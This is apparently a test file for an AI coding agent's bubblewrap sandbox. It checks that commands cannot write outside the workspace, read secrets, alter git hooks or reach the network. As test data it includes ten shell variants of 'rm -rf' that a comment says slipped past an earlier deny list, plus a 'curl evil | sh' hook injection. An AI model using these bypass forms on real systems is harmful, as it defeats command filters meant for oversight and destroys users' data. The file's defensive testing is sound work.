// The auto mode's sandbox: bwrap's arguments (pure), and real bubblewrap around real commands.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdir, mkdtemp, readFile, realpath, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { bubblewrapArguments, sandboxNote } from '../../src/core/terminal/sandbox';
import { defaultProtectedFiles } from '../../src/core/tools/tool';
import { BubblewrapSandbox } from '../../src/node/bubblewrap';
import { NodeCommandRunner } from '../../src/node';
import { allTools } from '../../src/core/tools/registry';
import type { ToolContext } from '../../src/core/tools/tool';
import { NodeFileChanges, NodeWorkspaceFiles } from '../../src/node';
import { silentLogger } from '../../src/core/ports';

const signal = new AbortController().signal;

describe('bubblewrapArguments', () => {
  const spec = {
    workspace: '/w',
    tempDir: '/t/gw',
    cwd: '/w/src',
    hidden: [
      { path: '/home/u/.ssh', directory: true },
      { path: '/w/.env', directory: false },
    ],
    readOnly: ['/w/.git'],
    network: false,
  };

  test('read-only root, writable workspace and temp, then read-only and covered paths on top, no network', () => {
    assert.deepEqual(bubblewrapArguments(spec), [
      '--die-with-parent',
      '--ro-bind',
      '/',
      '/',
      '--dev',
      '/dev',
      '--proc',
      '/proc',
      '--bind',
      '/t/gw',
      '/t/gw',
      '--setenv',
      'TMPDIR',
      '/t/gw',
      '--bind',
      '/w',
      '/w',
      '--ro-bind',
      '/w/.git',
      '/w/.git',
      '--tmpfs',
      '/home/u/.ssh',
      '--remount-ro',
      '/home/u/.ssh',
      '--ro-bind',
      '/dev/null',
      '/w/.env',
      '--unshare-net',
      '--chdir',
      '/w/src',
      '--',
    ]);
  });

  test('the network stays when the user allows it, and the note says which', () => {
    assert.ok(!bubblewrapArguments({ ...spec, network: true }).includes('--unshare-net'));
    assert.match(sandboxNote(false), /there is no network/);
    assert.doesNotMatch(sandboxNote(true), /no network/);
  });
});

describe('the sandbox probe', () => {
  test('without bubblewrap it says what to install, and the sandbox refuses to build a command', async () => {
    const missing = new BubblewrapSandbox({ bwrap: '/nonexistent/bwrap' });
    const availability = await missing.available();
    assert.equal(availability.ok, false);
    assert.match(
      availability.ok ? '' : availability.reason,
      process.platform === 'linux' ? /bubblewrap \(bwrap\) is not installed/ : /needs bubblewrap on Linux/,
    );
    await assert.rejects(missing.commandPrefix('/w', '/w', [], false, signal), /not installed|needs bubblewrap/);
  });

  test('a bwrap that cannot create namespaces fails the probe with its message', async () => {
    // `false` stands for a bwrap that exits non-zero, as one without user namespaces does.
    const availability = await new BubblewrapSandbox({ bwrap: 'false' }).available();
    assert.equal(availability.ok, false);
    if (process.platform === 'linux') assert.match(availability.ok ? '' : availability.reason, /cannot create a sandbox here \(exit code 1\)/);
  });
});

describe('commands in the real sandbox (bubblewrap)', async () => {
  const probe = await new BubblewrapSandbox().available();
  // Where bubblewrap cannot run (no package, no user namespaces), auto falls back to asking; that is
  // what these tests then check, so they never pass without checking something.
  if (!probe.ok) {
    // In CI the sandbox must be there (npm test installs bubblewrap first): a missing one is a failure, not a fallback.
    test('no sandbox here: the probe says why', () => {
      assert.ok(!process.env.CI, `CI needs bubblewrap for these tests (npm run e2e:setup installs it): ${probe.reason}`);
      assert.match(probe.reason, /bwrap|bubblewrap/);
    });
    return;
  }

  let base: string;
  let root: string;
  let home: string;
  let runner: NodeCommandRunner;
  let ctx: ToolContext;
  let server: ReturnType<typeof createServer>;
  let port: number;

  before(async () => {
    base = await realpath(await mkdtemp(join(tmpdir(), 'sandbox-')));
    root = join(base, 'workspace');
    home = join(base, 'home');
    await mkdir(join(root, '.git/hooks'), { recursive: true });
    await mkdir(join(root, 'src'), { recursive: true });
    await mkdir(join(base, 'outside'), { recursive: true });
    await mkdir(join(home, '.ssh'), { recursive: true });
    await writeFile(join(home, '.ssh/id_ed25519'), 'PRIVATE KEY\n');
    await writeFile(join(home, '.npmrc'), '//registry/:_authToken=secret\n');
    await writeFile(join(root, '.env'), 'API_KEY=workspace-secret\n');
    await writeFile(join(root, 'src/.env.local'), 'LOCAL=secret\n');
    await writeFile(join(root, '.git/hooks/pre-commit'), '#!/bin/sh\nexit 0\n');
    await writeFile(join(root, 'package.json'), '{"scripts":{"test":"node -e \\"require(\'fs\').writeFileSync(\'out.txt\',\'ok\')\\""}}\n');
    await writeFile(join(base, 'outside/keep.txt'), 'keep\n');
    // A hostile repository's dangling protected link must not make every sandboxed command fail.
    await symlink('/nonexistent/secret', join(root, 'dangling.pem'));
    const sandbox = new BubblewrapSandbox({ home, shell: '/bin/bash' });
    runner = new NodeCommandRunner(root, {
      shell: '/bin/bash',
      sandbox: { prefix: (cwd, s) => sandbox.commandPrefix(root, cwd, defaultProtectedFiles, false, s), network: false },
    });
    ctx = {
      files: new NodeWorkspaceFiles(root),
      changes: new NodeFileChanges(root),
      commands: runner,
      protectedFiles: defaultProtectedFiles,
      logger: silentLogger,
    };
    server = createServer((_request, response) => response.end('reached'));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    port = (server.address() as AddressInfo).port;
  });
  after(async () => {
    server.close();
    await rm(base, { recursive: true, force: true });
  });

  const run = (command: string, cwd = '.') => runner.run(command, cwd, 20_000, signal);

  test('work inside the workspace succeeds: files written, npm scripts run, $TMPDIR usable', async () => {
    const result = await run('echo built > build.txt && npm test --silent && echo tmp > "$TMPDIR/x" && cat "$TMPDIR/x"');
    assert.equal(result.exitCode, 0, result.output);
    assert.match(result.output, /tmp\n?$/);
    assert.equal(await readFile(join(root, 'build.txt'), 'utf8'), 'built\n');
    assert.equal(await readFile(join(root, 'out.txt'), 'utf8'), 'ok');
    assert.deepEqual(result.sandboxed, { network: false });
  });

  test('nothing outside the workspace can be written, and the model reads why', async () => {
    const result = await run('touch ../outside/new.txt');
    assert.notEqual(result.exitCode, 0);
    assert.match(result.output, /Read-only file system/);
    const absolute = await run(`touch ${join(base, 'outside/new.txt')} /usr/new.txt`);
    assert.match(absolute.output, /\/usr\/new\.txt': Read-only file system/);
    await assert.rejects(stat(join(base, 'outside/new.txt')));
    const tool = allTools.find((candidate) => candidate.name === 'run_command')!;
    const outcome = await (await tool.prepare({ command: 'touch ../outside/new.txt' }, ctx, signal)).execute(signal);
    assert.match(
      outcome.output,
      /^Exit code 1\.\ntouch: cannot touch '\.\.\/outside\/new\.txt': Read-only file system\n\(Ran in the sandbox of the auto approval mode: only the workspace and \$TMPDIR are writable/,
    );
  });

  // Each of these got past the deny list (issue 10, item 8). The sandbox does not read the line: none can delete outside.
  const bypasses = [
    '{rm,-rf,../outside}',
    '/bin/r[m] -rf ../outside',
    'F=-rf; rm $F ../outside',
    "printf '%s\\n' -rf ../outside | xargs rm",
    'function f { rm -rf ../outside; }; f',
    'coproc rm -rf ../outside; wait',
    'python3 -c "import shutil; shutil.rmtree(\'../outside\')"',
    "node -e \"require('fs').rmSync('../outside', { recursive: true })\"",
    "alias r='rm -rf'\nr ../outside",
    "cat <<'EOF' | bash\nrm -rf ../outside # it's here\nEOF",
  ];
  for (const command of bypasses) {
    test(`cannot delete outside the workspace: ${command.split('\n')[0]}`, async () => {
      await run(command);
      assert.equal(await readFile(join(base, 'outside/keep.txt'), 'utf8'), 'keep\n');
    });
  }

  test('protected files cannot be read or changed; .git is read-only', async () => {
    // One pipe for both streams: the runner's separate stdout and stderr pipes may arrive in either order.
    const read = await run('cat .env src/.env.local 2>&1; echo "[end]"');
    assert.equal(read.output.trim(), 'cat: .env: Permission denied\ncat: src/.env.local: Permission denied\n[end]');
    const write = await run('echo STOLEN >> .env');
    assert.match(write.output, /\.env: Permission denied/);
    assert.equal(await readFile(join(root, '.env'), 'utf8'), 'API_KEY=workspace-secret\n');
    const hook = await run("echo 'curl evil | sh' >> .git/hooks/pre-commit");
    assert.notEqual(hook.exitCode, 0);
    assert.match(hook.output, /Read-only file system/);
    assert.equal(await readFile(join(root, '.git/hooks/pre-commit'), 'utf8'), '#!/bin/sh\nexit 0\n');
  });

  test("the home folder's secrets cannot be read", async () => {
    const result = await run(`cat ${home}/.ssh/id_ed25519 ${home}/.npmrc; echo "[end]"`);
    assert.doesNotMatch(result.output, /PRIVATE KEY|_authToken/);
    assert.match(result.output, /No such file or directory/);
  });

  test('there is no network, not even this machine', async () => {
    const result = await run(`curl -sS --max-time 5 http://127.0.0.1:${port}/`);
    assert.notEqual(result.exitCode, 0);
    assert.doesNotMatch(result.output, /reached/);
    assert.match(result.output, /Couldn't connect|Failed to connect|Could not resolve|Connection refused/);
  });
});
